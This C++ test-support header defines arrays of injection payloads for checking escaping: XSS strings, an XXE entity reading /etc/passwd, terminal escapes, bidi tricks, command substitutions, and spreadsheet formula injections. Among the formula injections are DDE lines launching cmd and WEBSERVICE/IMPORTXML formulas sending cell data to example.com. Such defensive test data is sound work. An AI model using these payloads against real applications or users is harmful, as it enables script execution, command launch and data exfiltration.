// SPDX-FileCopyrightText: The Weir authors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <array>
#include <string_view>

namespace weir::testsupport {

/// Texts that would become mark-up, script, style, a reference, a command of a terminal or a break of a format if somebody forgot to escape
/// them.
inline constexpr std::array<std::string_view, 90> injectionPayloads {
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</bdi><b onclick=alert(1)>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "\" style=\"x:expression(alert(1))", "\" fill=\"url(http://example.com)", "<iframe src=http://example.com>",
    "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=//example.com>", "<meta http-equiv=refresh content=0>",
    "<base href=//example.com>", "<form action=//example.com>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=\"data:x,<script>\">", "<![CDATA[<script>alert(1)</script>]]>", "<!--", "-->", "<!-- --><script>", "]]>",
    "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&lt;script&gt;", "&#60;script&#62;", "&amp;",
    "&", "<", ">", "\"", "'", "`", "<x", "<x/", "</", "</x", "<x a=", "<x a=\"", std::string_view("<\0script>", 9), "\x01\x02",
    "\xC0\xBCscript\xC0\xBE", "\xFF\xFE<\xFFscript>",
    "\xE2\x80\xAE"
    "txet",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "javascript:alert(1)", "url(http://example.com/x)",
    "@import 'http://example.com';", "x\"/><foreignObject><body onload=alert(1)>", "<style>*{display:none}</style>", "<textarea>",
    // what widgets of Qt take for rich text
    "<qt>x</qt><img src=\"file:///etc/passwd\">", "<a href=\"file:///etc/passwd\">click</a>", "<table><tr><td>1</td></tr></table>",
    "<b>bold</b><br><hr>", "<font size=7 color=red>x</font>",
    "<html><head><style>p { color: red }</style></head><body><p>x</p></body></html>", "a\n<b>second line</b>", "&lt;b&gt;&nbsp;&copy;",
    "&File &Open", // a letter to press
    // terminals
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;file:///etc/passwd\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H",
    "\xC2\x9B"
    "31mred", // CSI as one character
    "a\rb\bc\x7F", "\x07\x0B\x0C",
    // text that goes its own way
    "\xE2\x81\xA6"
    "isolate",
    "\xE2\x80\xAD"
    "override",
    "a\xE2\x80\x8B"
    "b\xEF\xBB\xBF"
    "c",
    "Z\xCC\x80\xCC\x81\xCC\x82\xCC\x83\xCC\x84\xCC\x85\xCC\x86\xCC\x87\xCC\x88\xCC\x89\xCC\x8A\xCC\x8B\xCC\x8C\xCC\x8D\xCC\x8E\xCC\x8F\xCC"
    "\x90\xCC\x91\xCC\x92\xCC\x93",
    "Donaudampfschifffahrtsgesellschaftskapitaenskajuetentuerschluessellochabdeckungsschraubenschluesselhalterung"
    "Donaudampfschifffahrtsgesellschaftskapitaenskajuetentuerschluessellochabdeckungsschraubenschluesselhalterung",
    // format strings and places to be filled
    "%s%n%x %1 %2 %L1", "{0} {} %(name)s $(id) `id`",
    // Markdown
    "[x](javascript:alert(1)) ![x](http://example.com/x.png)", "| a | b |\n|---|---|\n# head\n> quote", "*a* _b_ ~~c~~ ```d``` \\",
    "<!-- weir-recipe {\"blocks\":[]} -->",
    // JSON
    "\",\"key\":\"x", "\\u0000\\\"}]}",
    "\xE2\x80\xA8\xE2\x80\xA9", // line ends of JavaScript
};

/// Texts that a spreadsheet would take for a formula, or that break out of their cell.
inline constexpr std::array<std::string_view, 40> formulaPayloads {
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    "=WEBSERVICE(\"http://example.com/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
    "=IMAGE(\"http://example.com/x.png\")",
    "=\"a\"&\"b\"",
    "=A1:Z9",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    " \t@x",
    "\t",
    "\xEF\xBC\x9D"
    "1+1", // full width
    "\xEF\xBC\x8B"
    "1+1",
    "\xEF\xBC\x8D"
    "1+1",
    "\xEF\xBC\xA0"
    "SUM(1)",
    "\xC2\xA0=1+1", // blanks that do not look like any
    "\xE2\x80\x8B=1+1",
    "\xEF\xBB\xBF=1+1",
    "\x01=1+1",
    "\",=1+1",
    "\"\n=1+1",
    "\",\"=1+1\",\"",
    ";=1+1",
    ",=1+1,",
    "'=1+1",
};

} // namespace weir::testsupport
